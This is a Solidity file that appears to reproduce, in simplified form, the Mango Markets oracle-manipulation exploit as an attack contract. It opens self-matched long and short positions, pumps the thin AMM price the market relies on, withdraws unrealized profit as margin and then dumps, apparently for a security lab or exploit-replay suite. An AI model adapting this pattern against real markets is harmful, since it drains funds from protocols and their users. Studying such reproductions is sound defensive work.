// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IMarketLike, IPoolLike} from "./AttackBase.sol";

/// @notice The short side of the self-matched pair (a second account, as at Mango).
contract SpotPumpShort {
    address public immutable parent;

    constructor(IERC20 usd, address market) {
        parent = msg.sender;
        usd.approve(market, type(uint256).max);
    }

    function open(address market, uint256 margin, uint256 size) external {
        require(msg.sender == parent, "parent only");
        IMarketLike(market).openPosition(false, margin, size);
    }
}

/// @notice Mango Markets (Oct 2022), simplified: self-matched long/short in the thin market, pump the
/// AMM spot the market is priced from, withdraw the long's unrealized profit as margin.
contract SpotPumpAttack is AttackBase {
    IMarketLike public immutable market;
    IPoolLike public immutable pool;
    IERC20 public immutable asset;
    SpotPumpShort public immutable shortSide;

    constructor(IERC20 usd_, IMarketLike market_, IPoolLike pool_, IERC20 asset_) AttackBase(usd_) {
        market = market_;
        pool = pool_;
        asset = asset_;
        shortSide = new SpotPumpShort(usd_, address(market_));
        _approve(address(market_));
        _approve(address(pool_));
        asset_.approve(address(pool_), type(uint256).max);
    }

    function openPair(uint256 margin, uint256 size) external onlyOwner {
        market.openPosition(true, margin, size);
        usd.transfer(address(shortSide), margin);
        shortSide.open(address(market), margin, size);
    }

    function pump(uint256 usdAmount) external onlyOwner {
        pool.swap(true, usdAmount, 0, address(this));
    }

    /// @notice Withdraw everything the long's equity allows beyond its initial margin.
    function withdrawProfit(uint256 maxLeverage) external onlyOwner {
        (, uint256 size,,) = market.positions(address(this));
        int256 eq = market.equity(address(this));
        int256 keep = int256(size / maxLeverage) + 1e6;
        if (eq > keep) market.withdrawMargin(uint256(eq - keep));
    }

    function dump() external onlyOwner {
        pool.swap(false, asset.balanceOf(address(this)), 0, address(this));
    }
}
